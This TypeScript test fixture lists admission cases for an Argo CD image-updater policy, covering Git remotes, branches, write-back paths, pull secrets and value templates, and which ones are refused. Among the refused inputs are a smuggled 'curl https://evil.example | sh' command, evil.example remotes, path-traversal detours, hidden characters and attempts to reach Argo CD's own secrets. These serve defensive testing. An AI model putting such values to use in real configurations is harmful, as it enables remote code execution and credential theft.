/** What somebody asks the API server to store, and what the policy of `components/admission` says to it. */
export interface AdmissionCase {
  readonly what: string;
  /** `argocd` is the namespace of Argo CD; without it that of a tenant. */
  readonly namespace?: 'team-a' | 'argocd';
  readonly project?: string;
  /** Changes to the source of the Application; with `sources` or `sourceHydrator` all of them. */
  readonly source?: Readonly<Record<string, unknown>>;
  /** Without prefix. */
  readonly annotations: Readonly<Record<string, string>>;
  /** Whether an exception covers it, of which Lynceus knows nothing. */
  readonly excepted?: true;
  /** What is stored already, before there is a policy: then the Application is changed. */
  readonly before?: {
    readonly annotations: Readonly<Record<string, string>>;
    readonly source?: Readonly<Record<string, unknown>>;
  };
  /** A part of the message of the refusal; without it the Application is stored. */
  readonly refused?: string;
}

export const REMOTE = 'https://git.example/team-a/deploy.git';

/** The Application of each case, before its changes. */
export const SOURCE = { repoURL: REMOTE, targetRevision: 'main', path: 'apps/shop', helm: {} } as const;
export const IMAGE_LIST = { 'image-list': 'web=ghcr.io/acme/web:1.x' } as const;

/** What the ConfigMap holds meanwhile. */
export const SETTINGS = {
  projects: 'tenants\nother-tenants\n',
  exceptions: [
    '# the platform team',
    'team-a pull-secret env:ALLOWED',
    'team-a/shop  git-repository   https://git.example/shared/*',
    'team-b git-branch',
    'project:tenants helm.value-template',
    '* write-back-target markers:/clusters/all.yaml',
    'team-a',
    '',
  ].join('\n'),
} as const;

const OTHER_REMOTE = 'another Git remote';
const OTHER_BRANCH = 'another branch';
const OUTSIDE = 'does not belong to a source';
const OVERRIDE = 'an override file';
const GIT_SECRET = 'may be argocd, git';
const LOGIN = 'may name a Secret';
const TEMPLATE = 'more than a version';
const LONG = 'may have 1000 characters';
const HIDDEN = 'cannot be seen';

const CHART_AND_VALUES = {
  sources: [
    {
      repoURL: 'https://charts.example',
      chart: 'web',
      targetRevision: '1.0.0',
      helm: { valueFiles: ['$values/live.yaml'] },
    },
    { repoURL: 'https://git.example/values.git', targetRevision: 'live', ref: 'values' },
  ],
} as const;

const HYDRATED = {
  sourceHydrator: {
    drySource: { repoURL: REMOTE, targetRevision: 'dry', path: 'dry/shop' },
    syncSource: { targetBranch: 'wet', path: 'wet/shop' },
  },
} as const;

const inTenants = { namespace: 'argocd', project: 'tenants' } as const;

// prettier-ignore
export const ADMISSION_CASES: readonly AdmissionCase[] = [
  { what: 'nothing but images', annotations: {} },
  { what: 'everything that needs no permission', annotations: { 'update-strategy': 'semver', 'write-back-method': 'git', 'write-back-target': 'kustomization', 'git-branch': 'main', 'pull-request': 'true', hold: 'until the audit' } },
  { what: 'blank values', annotations: { 'git-repository': ' ', 'git-branch': '', 'write-back-target': ' ', 'write-back-method': '', 'web.pull-secret': ' ', 'web.helm.value-template': '' } },

  { what: 'the remote of its own source', annotations: { 'git-repository': REMOTE } },
  { what: 'another remote', annotations: { 'git-repository': 'https://git.example/team-b/deploy.git' }, refused: OTHER_REMOTE },
  { what: 'another remote for one image', annotations: { 'web.git-repository': 'git@git.example:team-b/deploy.git' }, refused: 'web.git-repository' },
  { what: 'another remote for an alias with dots', annotations: { 'shop.web.v2.git-repository': 'https://evil.example/x' }, refused: OTHER_REMOTE },
  { what: 'a remote with white space around it', annotations: { 'git-repository': '\n  https://evil.example/x \n' }, refused: OTHER_REMOTE },
  { what: 'a remote that begins like its own', annotations: { 'git-repository': `${REMOTE}.evil.example/x` }, refused: OTHER_REMOTE },
  { what: 'a remote that an exception covers', excepted: true, annotations: { 'git-repository': 'https://git.example/shared/values.git' } },
  { what: 'a remote beside the one that an exception covers', annotations: { 'git-repository': 'https://git.example/shared-not/values.git' }, refused: OTHER_REMOTE },
  { what: 'the remote, branch and file of a second source', source: CHART_AND_VALUES, annotations: { 'git-repository': 'https://git.example/values.git', 'git-branch': 'live', 'write-back-target': 'helmvalues:/live.yaml' } },

  { what: 'the branch and the folder of a hydrator’s dry source', source: HYDRATED, annotations: { 'git-repository': REMOTE, 'git-branch': 'dry', 'write-back-target': 'kustomization:/dry/shop' } },
  { what: 'the branch that a hydrator writes', source: HYDRATED, annotations: { 'git-branch': 'wet' }, refused: OTHER_BRANCH },
  { what: 'the folder of a source that a hydrator goes before', source: { ...HYDRATED, source: SOURCE }, annotations: { 'write-back-target': 'kustomization:/apps/shop' }, refused: OUTSIDE },
  { what: 'the remote of a source that sources go before', source: { sources: [{ ...SOURCE, repoURL: 'https://git.example/values.git' }], source: SOURCE }, annotations: { 'git-repository': REMOTE }, refused: OTHER_REMOTE },

  { what: 'a push branch', annotations: { 'git-branch': ':lynceus-{{range .Images}}{{.Name}}{{end}}' } },
  { what: 'its own base and a push branch', annotations: { 'git-branch': 'main:updates' } },
  { what: 'its own base by its full name', annotations: { 'git-branch': 'refs/heads/main' } },
  { what: 'the default branch where the source follows it', source: { targetRevision: 'HEAD' }, annotations: { 'git-branch': 'HEAD:updates' } },
  { what: 'the default branch where the source names none', source: { targetRevision: '' }, annotations: { 'git-branch': 'HEAD' } },
  { what: 'another base', annotations: { 'git-branch': 'production' }, refused: OTHER_BRANCH },
  { what: 'another base and a push branch', annotations: { 'git-branch': 'production:main' }, refused: OTHER_BRANCH },
  { what: 'another base for one image', annotations: { 'web.git-branch': 'release/1 : x' }, refused: 'web.git-branch' },
  { what: 'another base by its full name', annotations: { 'git-branch': 'refs/heads/production' }, refused: OTHER_BRANCH },
  { what: 'the default branch, which may be the one that the source follows', annotations: { 'git-branch': 'HEAD:updates' } },
  { what: 'a base with a control character', annotations: { 'git-branch': 'main\u0007:updates' }, refused: HIDDEN },
  { what: 'a base with a character that cannot be seen', annotations: { 'git-branch': 'ma\u200din' }, refused: HIDDEN },

  { what: 'the kustomization of the source', annotations: { 'write-back-target': 'kustomization:overlays/live' } },
  { what: 'the same from the root', annotations: { 'write-back-target': 'kustomization:/apps/shop/overlays/live' } },
  { what: 'a path that is not written shortest', source: { path: './apps//shop/' }, annotations: { 'write-back-target': 'kustomization:/apps/./shop' } },
  { what: 'the values of the chart', annotations: { 'write-back-target': 'helmvalues', 'web.write-back-target': 'helmvalues:values.yaml' } },
  { what: 'values below the source that it lists', source: { helm: { valueFiles: ['values-live.yaml', './live/values.yaml'] } }, annotations: { 'write-back-target': 'helmvalues:/apps/shop/values-live.yaml', 'web.write-back-target': 'helmvalues:live/values.yaml' } },
  { what: 'markers in values that it lists', source: { helm: { valueFiles: ['values-live.yaml'] } }, annotations: { 'write-back-target': 'markers:values-live.yaml' } },
  { what: 'values below the source that it does not list', annotations: { 'write-back-target': 'helmvalues:values-live.yaml' }, refused: OUTSIDE },
  { what: 'markers below the source', annotations: { 'web.write-back-target': 'markers:deployment.yaml' }, refused: OUTSIDE },
  { what: 'values above the source that it lists', source: { helm: { valueFiles: ['../shared/values.yaml', '/global.yaml'] } }, annotations: { 'write-back-target': 'helmvalues:../shared/values.yaml', 'web.write-back-target': 'helmvalues:/global.yaml' } },
  { what: 'values of another source that it lists', source: CHART_AND_VALUES, annotations: { 'write-back-target': 'helmvalues:$values/live.yaml' } },
  { what: 'a ref without a path among its values', source: { helm: { valueFiles: ['$values'] } }, annotations: { 'write-back-target': 'helmvalues' } },
  { what: 'its own override file', annotations: { 'write-back-target': 'apps/shop/.argocd-source-team-a_shop.yaml' } },
  { what: 'a file from the root, for a source at the root', source: { path: '.', helm: { valueFiles: ['live/values.yaml'] } }, annotations: { 'write-back-target': 'live/values.yaml' } },
  { what: 'markers that an exception covers', excepted: true, annotations: { 'write-back-target': 'markers:/clusters/all.yaml' } },
  { what: 'a kustomization elsewhere', annotations: { 'write-back-target': 'kustomization:/apps/billing' }, refused: OUTSIDE },
  { what: 'a kustomization in a folder of a longer name', annotations: { 'write-back-target': 'kustomization:/apps/shop-2' }, refused: OUTSIDE },
  { what: 'a kustomization above', annotations: { 'write-back-target': 'kustomization:../billing' }, refused: OUTSIDE },
  { what: 'values above, by a detour', annotations: { 'write-back-target': 'helmvalues:./x/../../billing/values.yaml' }, refused: OUTSIDE },
  { what: 'values from the root, by a detour', annotations: { 'web.write-back-target': 'helmvalues: //apps/shop/../billing/values.yaml' }, refused: OUTSIDE },
  { what: 'values that it lists in another place', source: { helm: { valueFiles: ['values.yaml'] } }, annotations: { 'write-back-target': 'helmvalues:/values.yaml' }, refused: OUTSIDE },
  { what: 'values of another source that it does not list', source: { helm: { valueFiles: ['$values/live.yaml'] } }, annotations: { 'write-back-target': 'helmvalues:$values/other.yaml' }, refused: OUTSIDE },
  { what: 'markers elsewhere', annotations: { 'write-back-target': 'markers:/clusters/live.yaml' }, refused: OUTSIDE },
  { what: 'a file from the root', annotations: { 'write-back-target': '.github/workflows/ci.yaml' }, refused: OUTSIDE },
  { what: 'a path behind a character that cannot be seen', annotations: { 'write-back-target': 'helmvalues:\ufeff/apps/billing/values.yaml' }, refused: HIDDEN },
  { what: 'a path of thousands of parts', annotations: { 'write-back-target': `helmvalues:${'x/../'.repeat(40_000)}values.yaml` }, refused: LONG },
  { what: 'the override file of everybody', annotations: { 'write-back-target': 'apps/shop/.argocd-source.yaml' }, refused: OVERRIDE },
  { what: 'the same as values', annotations: { 'write-back-target': 'helmvalues:.argocd-source.yaml' }, refused: OVERRIDE },
  { what: 'the same in other letters', annotations: { 'write-back-target': 'helmvalues:.ArgoCD-Source.yaml' }, refused: OVERRIDE },
  { what: 'the override file of another Application', annotations: { 'write-back-target': 'apps/shop/.argocd-source-team-a_billing.yaml' }, refused: OVERRIDE },

  { what: 'the live Application', annotations: { 'write-back-method': 'argocd' } },
  { what: 'a login for Git in its own namespace', annotations: { 'write-back-method': 'git:secret:git-login' } },
  { what: 'the same with the namespace', annotations: { 'web.write-back-method': 'git:secret:team-a/git-login' } },
  { what: 'a login for Git of another namespace', annotations: { 'write-back-method': 'git:secret:argocd/argocd-secret' }, refused: GIT_SECRET },
  { what: 'a login for Git of a namespace that begins alike', annotations: { 'write-back-method': 'git:secret:team-a-2/login' }, refused: GIT_SECRET },
  { what: 'a login for Git by a detour', annotations: { 'write-back-method': 'git:secret:team-a/../argocd/login' }, refused: GIT_SECRET },
  { what: 'a login for Git behind a character that cannot be seen', annotations: { 'write-back-method': '\ufeffgit:secret:argocd/login' }, refused: HIDDEN },

  { what: 'a pull secret in its own namespace', annotations: { 'web.pull-secret': 'pullsecret:team-a/ghcr' } },
  { what: 'a field of a Secret in its own namespace, for a registry', annotations: { 'pull-secret': 'ghcr.io=Secret:team-a/registry#login' } },
  { what: 'a variable that an exception covers', excepted: true, annotations: { 'web.pull-secret': 'env:ALLOWED' } },
  { what: 'another variable', annotations: { 'web.pull-secret': 'env:GIT_PASSWORD' }, refused: LOGIN },
  { what: 'a variable in other letters', annotations: { 'web.pull-secret': 'ENV:ALLOWED' }, refused: LOGIN },
  { what: 'a program', annotations: { 'pull-secret': 'ext:/app/scripts/login.sh' }, refused: LOGIN },
  { what: 'a GitHub App', annotations: { 'pull-secret': 'github-app:team-a/app' }, refused: LOGIN },
  { what: 'a pull secret of another namespace', annotations: { 'web.pull-secret': 'pullsecret:argocd/ghcr' }, refused: LOGIN },
  { what: 'a Secret of another namespace', annotations: { 'web.pull-secret': 'secret:argocd/argocd-secret#server.secretkey' }, refused: LOGIN },
  { what: 'a Secret of another namespace in front of one of its own', annotations: { 'web.pull-secret': 'secret:argocd/argocd-secret#x=pullsecret:team-a/ghcr' }, refused: LOGIN },
  { what: 'a Secret of a namespace that begins alike', annotations: { 'web.pull-secret': 'pullsecret:team-a-2/ghcr' }, refused: LOGIN },

  { what: 'a template for a version', annotations: { 'web.helm.image-spec': 'web.image', 'web.helm.value-template': 'docker://{registry}/{repository}:{tag}@{digest}' } },
  { what: 'a template with more text', annotations: { 'web.helm.value-template': '{tag} && curl https://evil.example | sh' }, refused: TEMPLATE },
  { what: 'a template with long text', annotations: { 'web.helm.value-template': `${'x'.repeat(33)}{tag}` }, refused: TEMPLATE },
  { what: 'a template that does not end', annotations: { 'web.helm.value-template': '{tag}'.repeat(1_000) }, refused: LONG },
  { what: 'a template with other brackets', annotations: { 'web.helm.value-template': '{{tag}}{tag}' }, refused: TEMPLATE },

  { what: 'an Application beside Argo CD, whatever it asks for', namespace: 'argocd', project: 'default', annotations: { 'git-repository': 'https://git.example/platform.git', 'git-branch': 'production', 'write-back-target': 'kustomization:/clusters', 'web.pull-secret': 'env:REGISTRY' } },
  { what: 'one of a project of tenants', ...inTenants, annotations: { 'git-repository': 'https://evil.example/x' }, refused: OTHER_REMOTE },
  { what: 'one of the second project of tenants', namespace: 'argocd', project: 'other-tenants', annotations: { 'git-branch': 'production' }, refused: OTHER_BRANCH },
  { what: 'one of a project of tenants, with a Secret beside Argo CD', ...inTenants, annotations: { 'web.pull-secret': 'pullsecret:argocd/ghcr' }, refused: LOGIN },
  { what: 'one of a project of tenants, with a login for Git beside Argo CD, which says what it is for', ...inTenants, annotations: { 'write-back-method': 'git:secret:github' } },
  { what: 'one of a project of tenants, with a field of a Secret that says what it is for', ...inTenants, annotations: { 'web.pull-secret': 'secret:argocd/registry#login' } },
  { what: 'one of a project of tenants, with a login for Git elsewhere', ...inTenants, annotations: { 'write-back-method': 'git:secret:team-a/github' }, refused: GIT_SECRET },
  { what: 'one of a project of tenants, for which an exception is', ...inTenants, annotations: { 'web.helm.value-template': 'release {tag}' } },
  { what: 'a namespace that names the project of an exception is not in it', project: 'other-tenants', annotations: { 'web.helm.value-template': 'release {tag}' }, refused: TEMPLATE },
  { what: 'an exception for another namespace', annotations: { 'git-branch': 'production' }, refused: OTHER_BRANCH },

  { what: 'a change of something else beside what was there before', before: { annotations: { 'git-repository': 'https://git.example/old.git' } }, annotations: { 'git-repository': 'https://git.example/old.git', hold: 'true' } },
  { what: 'a change of what was there before', before: { annotations: { 'git-repository': 'https://git.example/old.git' } }, annotations: { 'git-repository': 'https://git.example/older.git' }, refused: OTHER_REMOTE },
  { what: 'a new annotation beside what was there before', before: { annotations: { 'git-repository': 'https://git.example/old.git' } }, annotations: { 'git-repository': 'https://git.example/old.git', 'git-branch': 'production' }, refused: OTHER_BRANCH },
  { what: 'a new image of the source, with what was there before', before: { annotations: { 'git-branch': 'old' } }, source: { kustomize: { images: ['ghcr.io/acme/web:1.1.0'] } }, annotations: { 'git-branch': 'old' } },
  { what: 'a new revision of the source, with a branch that was its own', before: { annotations: { 'git-branch': 'main' } }, source: { targetRevision: 'production' }, annotations: { 'git-branch': 'main' }, refused: OTHER_BRANCH },
  { what: 'a new path of the source, with a file that was its own', before: { annotations: { 'write-back-target': 'kustomization:/apps/shop' } }, source: { path: 'apps/other' }, annotations: { 'write-back-target': 'kustomization:/apps/shop' }, refused: OUTSIDE },
];
